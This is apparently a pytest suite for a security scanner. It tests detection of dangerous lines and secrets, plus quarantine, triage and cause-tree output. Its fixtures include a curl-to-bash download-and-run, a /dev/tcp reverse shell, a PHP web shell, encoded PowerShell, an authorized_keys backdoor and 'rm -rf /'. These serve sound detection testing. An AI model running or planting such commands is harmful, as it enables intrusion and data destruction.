"""What the agents find, what they leave alone, and how causes are drawn."""

from __future__ import annotations

import random
from pathlib import Path

import pytest

from watch import causes, files, patterns, samples, secrets, triage


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("cu" + "rl -fsSL https://example.com/x | sudo bash", "download-and-run"),
        ("bash -i >& /dev/t" + "cp/10.0.0.1/4444 0>&1", "reverse-shell"),
        ("ev" + "al(base64_decode('aGk='));", "encoded-code"),
        ("power" + "shell -enc SQBFAFgAIABTAHQAYQByAHQA", "encoded-powershell"),
        ("<?php sys" + "tem($_GET['c']);", "web-shell"),
        ("echo key >> ~/.ssh/authorized_" + "keys", "authorized-keys"),
        ("rm -rf /", "remove-all"),
        ("chmod -R 777 .", "world-writable"),
    ],
)
def test_dangerous_lines_are_found_where_they_stand(line: str, rule: str) -> None:
    assert [(found["rule"], found["line"]) for found in patterns.scan(["harmless", line])] == [(rule, 2)]


@pytest.mark.parametrize(
    "line",
    ["curl -o file https://example.com", "rm -rf build/", "evaluate(model)", "chmod 644 file", "a | sh" + "ow", ""],
)
def test_harmless_lines_are_left_alone(line: str) -> None:
    assert patterns.scan([line]) == []


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("access = AKIA" + "ABCDEFGHIJ234567", "cloud-key"),
        ("-----BEGIN RSA PRIVATE" + " KEY-----", "private-key"),
        ("password: 'x9$Lq2!vB7pZ'", "secret"),
        ("hash 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", "random"),
    ],
)
def test_secrets_are_found_and_never_shown_whole(line: str, rule: str) -> None:
    (found,) = secrets.find([line])
    assert found["rule"] == rule
    assert line.split()[-1].strip("'") not in found["message"]


@pytest.mark.parametrize(
    "line",
    [
        "password: aaaaaaaaaaaaaaaa",
        "token = $TOKEN_FROM_ENVIRONMENT",
        "incomprehensibilities and antidisestablishmentarianism",
        "a" * 64,
        "/usr/share/doc/some/long/path/to/a/file/that/is/here",
    ],
)
def test_what_is_no_secret_is_left_alone(line: str) -> None:
    assert secrets.find([line]) == []


def test_entropy_tells_random_words_from_others() -> None:
    chance = random.Random(1)
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    noise = "".join(chance.choice(letters) for _ in range(64))
    assert secrets.entropy(noise) > secrets.RANDOM_BITS > secrets.entropy("internationalization" * 3)
    assert secrets.entropy("") == 0
    assert secrets.entropy("aaaa") == 0


def test_findings_are_bounded() -> None:
    assert len(patterns.scan(["rm -rf /"] * 1000)) == patterns.MAX_FINDINGS
    assert len(secrets.find(["password: 'x9$Lq2!vB7pZ'"] * 1000)) == secrets.MAX_FINDINGS


def test_a_binary_file_is_searched_for_what_can_be_read() -> None:
    assert files.lines(b"\x7fELF\0\0\0rm -rf /\0\0ab\0") == ["rm -rf /"]
    assert files.lines(b"caf\xe9\nline") == ["caf\ufffd", "line"]
    assert sum(map(len, files.lines(b"a" * (files.MAX_BYTES + 1)))) == files.MAX_BYTES


@pytest.mark.parametrize(
    ("severities", "incident"),
    [(["high"], True), (["medium", "medium"], False), (["medium"] * 3, True), (["low"] * 10, False)],
)
def test_what_is_bad_enough_is_an_incident(severities: list[str], incident: bool) -> None:
    assert triage.is_incident([{"severity": severity} for severity in severities]) == incident


def test_a_file_is_moved_once_and_can_not_be_run(tmp_path: Path) -> None:
    (tmp_path / "bad").write_text("x")
    moved = [triage.quarantine(tmp_path / "bad", tmp_path / "quarantine", "I-1") for _ in range(2)]
    assert moved == [True, False]
    assert (tmp_path / "quarantine/I-1").stat().st_mode & 0o777 == 0o400


def test_the_samples_are_what_the_example_says(tmp_path: Path) -> None:
    found = {}
    for path in samples.drop(tmp_path):
        lines = files.lines(path.read_bytes())
        both = (patterns.scan(lines), secrets.find(lines))
        found[path.name] = tuple([finding["rule"] for finding in findings] for findings in both)
    assert found == {
        "build.py": (["shell-injection"], []),
        "deploy.env": ([], ["secret"]),
        "install.sh": (["download-and-run", "world-writable"], []),
        "readme.txt": ([], []),
        "settings.ini": ([], ["cloud-key"]),
        "upload.php": (["web-shell"], ["cloud-key"]),
    }


CHAIN = [
    causes.Happening(1, "file.added", "a.sh", None, None, 0),
    causes.Happening(2, "file.added", "b.sh", None, None, 0),
    causes.Happening(3, "security.alert", "a.sh (cron)", "scanner", 1, 1),
    causes.Happening(4, "security.alert", "a.sh (secret)", "secret_finder", 1, 1),
    causes.Happening(5, "incident.opened", "a.sh", "triage", 3, 2),
    causes.Happening(9, "incident.opened", 'b "c"', "triage", 7, 2),
]


def test_causes_are_a_tree_in_the_order_of_the_log() -> None:
    assert list(causes.tree(CHAIN)) == [
        "1 file.added a.sh",
        "├─ 3 security.alert a.sh (cron)  by scanner",
        "│  └─ 5 incident.opened a.sh  by triage",
        "└─ 4 security.alert a.sh (secret)  by secret_finder",
        "2 file.added b.sh",
        '9 incident.opened b "c"  by triage',
    ]


def test_causes_are_a_diagram_whatever_the_names_are() -> None:
    lines = list(causes.mermaid(CHAIN))
    assert lines[0] == "flowchart LR"
    assert '  e3 -->|"triage"| e5' in lines
    assert '  e9["incident.opened<br>b &quot;c&quot;"]' in lines
    assert sum("-->" in line for line in lines) == 3
